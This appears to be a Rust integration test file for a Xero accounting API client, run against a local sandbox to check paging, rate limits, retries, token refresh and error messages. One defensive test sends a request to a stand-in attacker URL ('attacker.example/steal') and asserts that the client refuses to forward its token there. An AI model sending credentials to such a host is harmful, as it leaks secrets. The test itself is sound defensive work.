//! The Xero client against the sandbox over real HTTP: paging, rate limits, retries, token
//! refresh on 401, error mapping and date normalisation.

use std::sync::atomic::Ordering;
use std::time::Duration;

use ledgerflow_sandbox::{RunningSandbox, SandboxConfig};
use ledgerflow_xero::catalogue;
use ledgerflow_xero::testing::ConsentTokens;
use ledgerflow_xero::{ApiError, ApiRequest, Endpoints, LimitConfig, Target, XeroClient};
use reqwest::Method;
use serde_json::{json, Value};

struct Fixture {
    sandbox: RunningSandbox,
    client: std::sync::Arc<XeroClient<ConsentTokens>>,
    tenants: Vec<String>,
    endpoints: Endpoints,
    http: reqwest::Client,
}

async fn fixture(scopes: &str, tune: impl FnOnce(&mut SandboxConfig)) -> Fixture {
    let mut config = SandboxConfig {
        bind: "127.0.0.1:0".parse().unwrap(),
        auto_approve: true,
        seed_invoices: 30,
        seed_contacts: 10,
        ..Default::default()
    };
    tune(&mut config);
    let sandbox = ledgerflow_sandbox::start(config).await.unwrap();
    let endpoints = Endpoints::sandbox(&sandbox.base_url()).unwrap();
    let demo = sandbox.demo_app();
    let (tokens, conns) = ledgerflow_xero::testing::consent(
        &endpoints,
        &demo.client_id,
        &demo.client_secret,
        &demo.redirect_uris[0],
        scopes,
    )
    .await
    .unwrap();
    Fixture {
        client: std::sync::Arc::new(XeroClient::new(
            reqwest::Client::new(),
            tokens,
            LimitConfig::default(),
        )),
        sandbox,
        tenants: conns.into_iter().map(|c| c.tenant_id).collect(),
        endpoints,
        http: reqwest::Client::new(),
    }
}

fn all_scopes() -> String {
    ledgerflow_xero::default_scopes(ledgerflow_xero::ScopeMode::Granular)
}

impl Fixture {
    fn target(&self) -> Target {
        Target {
            credential_id: "c".into(),
            tenant_id: Some(self.tenants[0].clone()),
            endpoints: self.endpoints.clone(),
        }
    }

    async fn admin(&self, method: Method, path: &str, body: Value) -> Value {
        self.http
            .request(method, format!("{}{path}", self.sandbox.base_url()))
            .json(&body)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap_or(Value::Null)
    }

    async fn counters(&self) -> Value {
        self.admin(Method::GET, "/_sandbox/counters", Value::Null)
            .await
    }
}

fn endpoint_calls(counters: &Value, needle: &str) -> u64 {
    counters["endpoints"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(k, _)| k.to_lowercase().contains(&needle.to_lowercase()))
        .filter_map(|(_, v)| v.as_u64())
        .sum()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reading_20000_invoices_takes_the_fewest_pages_without_a_429() {
    let fx = fixture(&all_scopes(), |c| c.seed_invoices = 20_000).await;
    let invoices = catalogue::resource("Invoices").unwrap();
    let started = std::time::Instant::now();
    let all = fx
        .client
        .pages(fx.target(), invoices, ApiRequest::get("Invoices"))
        .collect(None)
        .await
        .unwrap();
    let took = started.elapsed();
    assert!(all.len() >= 20_000, "{}", all.len());
    let counters = fx.counters().await;
    let calls = endpoint_calls(&counters, "GET /api.xro/2.0/Invoices");
    assert_eq!(
        calls as usize,
        all.len().div_ceil(1000),
        "one call per page of 1000"
    );
    assert_eq!(fx.client.stats.rate_limited.load(Ordering::Relaxed), 0);
    let peak = counters["max_concurrency"]
        .as_object()
        .unwrap()
        .values()
        .filter_map(|v| v.as_u64())
        .max()
        .unwrap();
    assert!(peak <= 5);
    // Dates came back as RFC 3339.
    let date = all[0]["Date"].as_str().unwrap();
    assert!(chrono::DateTime::parse_from_rfc3339(date).is_ok(), "{date}");
    eprintln!(
        "{} invoices in {calls} calls, {:.2} s",
        all.len(),
        took.as_secs_f64()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forty_concurrent_calls_keep_five_in_flight_and_injected_429s_are_waited_out() {
    let fx = fixture(&all_scopes(), |_| {}).await;
    let client = fx.client.clone();
    let mut tasks = Vec::new();
    for _ in 0..40 {
        let (c, t) = (client.clone(), fx.target().clone());
        tasks.push(tokio::spawn(async move {
            c.send(&t, &ApiRequest::get("Contacts")).await
        }));
    }
    for t in tasks {
        t.await.unwrap().unwrap();
    }
    let fx_counters: Value = fx
        .http
        .get(format!("{}/_sandbox/counters", fx.sandbox.base_url()))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let peak = fx_counters["max_concurrency"][&fx.tenants[0]]
        .as_u64()
        .unwrap();
    assert!(peak <= 5, "peak {peak}");
    assert_eq!(client.stats.rate_limited.load(Ordering::Relaxed), 0);

    // Two injected 429s with Retry-After: 1 are waited out.
    fx.http
        .post(format!("{}/_sandbox/faults", fx.sandbox.base_url()))
        .json(&json!({"method": "GET", "path": "/api.xro/2.0/Items", "status": 429, "count": 2}))
        .send()
        .await
        .unwrap();
    let started = std::time::Instant::now();
    client
        .send(&fx.target(), &ApiRequest::get("Items"))
        .await
        .unwrap();
    assert_eq!(client.stats.rate_limited.load(Ordering::Relaxed), 2);
    assert!(
        started.elapsed() >= Duration::from_secs(2),
        "each 429 waited Retry-After"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_errors_are_retried_for_reads_and_idempotent_writes_only() {
    let fx = fixture(&all_scopes(), |c| c.rate_limits = None).await;
    let fault = |method: &str, path: &str, status: u16| json!({"method": method, "path": path, "status": status, "count": 2});
    fx.admin(
        Method::POST,
        "/_sandbox/faults",
        fault("GET", "/api.xro/2.0/Accounts", 503),
    )
    .await;
    let resp = fx
        .client
        .send(&fx.target(), &ApiRequest::get("Accounts"))
        .await
        .unwrap();
    assert!(resp.json.unwrap()["Accounts"].as_array().unwrap().len() > 5);

    let contact = |name: &str| json!({"Contacts": [{"Name": name}]});
    fx.admin(
        Method::POST,
        "/_sandbox/faults",
        fault("PUT", "/api.xro/2.0/Contacts", 503),
    )
    .await;
    let err = fx
        .client
        .send(
            &fx.target(),
            &ApiRequest::new(Method::PUT, "Contacts").json(contact("No key Ltd")),
        )
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("not retried because it has no idempotency key"),
        "{err}"
    );
    fx.admin(
        Method::POST,
        "/_sandbox/faults",
        fault("PUT", "/api.xro/2.0/Contacts", 503),
    )
    .await;
    fx.admin(Method::POST, "/_sandbox/faults", json!({"method": "PUT", "path": "/api.xro/2.0/Contacts", "drop_connection": true, "count": 1})).await;
    let req = ApiRequest::new(Method::PUT, "Contacts")
        .json(contact("Keyed Ltd"))
        .idempotency_key("exec-1:node-1:0");
    fx.client.send(&fx.target(), &req).await.unwrap();
    let found = fx
        .client
        .send(
            &fx.target(),
            &ApiRequest::get("Contacts").query("where", "Name==\"Keyed Ltd\""),
        )
        .await
        .unwrap();
    assert_eq!(found.json.unwrap()["Contacts"].as_array().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_access_token_expiring_mid_run_is_refreshed_once() {
    let fx = fixture(&all_scopes(), |c| c.rate_limits = None).await;
    fx.client
        .send(&fx.target(), &ApiRequest::get("Organisation"))
        .await
        .unwrap();
    fx.admin(
        Method::POST,
        "/_sandbox/clock/advance",
        json!({"seconds": 31 * 60}),
    )
    .await;
    let resp = fx
        .client
        .send(&fx.target(), &ApiRequest::get("Organisation"))
        .await
        .unwrap();
    assert_eq!(resp.status, 200);
    fx.client
        .send(&fx.target(), &ApiRequest::get("Currencies"))
        .await
        .unwrap();
    assert_eq!(fx.client_refreshes(), 1);
}

impl Fixture {
    fn client_refreshes(&self) -> u32 {
        // The token source is inside the client; reach it through a call-free accessor.
        self.client.tokens().refreshes()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn errors_say_what_to_do() {
    let fx = fixture(
        "offline_access openid accounting.contacts accounting.settings",
        |c| {
            c.rate_limits = Some(ledgerflow_sandbox::RateLimits {
                per_day: 6,
                ..Default::default()
            })
        },
    )
    .await;
    // Validation: Xero's per-element messages.
    let err = fx
        .client
        .send(
            &fx.target(),
            &ApiRequest::new(Method::PUT, "Contacts").json(json!({"Contacts": [{"Name": ""}]})),
        )
        .await
        .unwrap_err();
    match &err {
        ApiError::Validation { elements, .. } => assert!(!elements[0].messages.is_empty(), "{err}"),
        other => panic!("{other:?}"),
    }
    // Missing scope: the token has no invoices scope.
    let err = fx
        .client
        .send(&fx.target(), &ApiRequest::get("Invoices"))
        .await
        .unwrap_err();
    assert!(matches!(err, ApiError::MissingScope { .. }), "{err:?}");
    assert!(err.to_string().contains("reconnect"));
    // The token is never sent outside Xero (or the sandbox in use).
    let err = fx
        .client
        .send(
            &fx.target(),
            &ApiRequest::get("https://attacker.example/steal"),
        )
        .await
        .unwrap_err();
    assert!(
        matches!(err, ApiError::Invalid(_)) && err.to_string().contains("not a Xero API address"),
        "{err:?}"
    );
    // Unknown organisation.
    let mut other = fx.target();
    other.tenant_id = Some("00000000-0000-0000-0000-000000000000".into());
    let err = fx
        .client
        .send(&other, &ApiRequest::get("Contacts"))
        .await
        .unwrap_err();
    assert!(matches!(err, ApiError::UnknownTenant(_)), "{err:?}");
    // The day's budget used up.
    let mut outcome = Ok(());
    for _ in 0..10 {
        if let Err(e) = fx
            .client
            .send(&fx.target(), &ApiRequest::get("Contacts"))
            .await
        {
            outcome = Err(e);
            break;
        }
    }
    let err = outcome.unwrap_err();
    assert!(matches!(err, ApiError::DayLimit { .. }), "{err:?}");
    assert!(err.to_string().contains("daily call limit"));
}
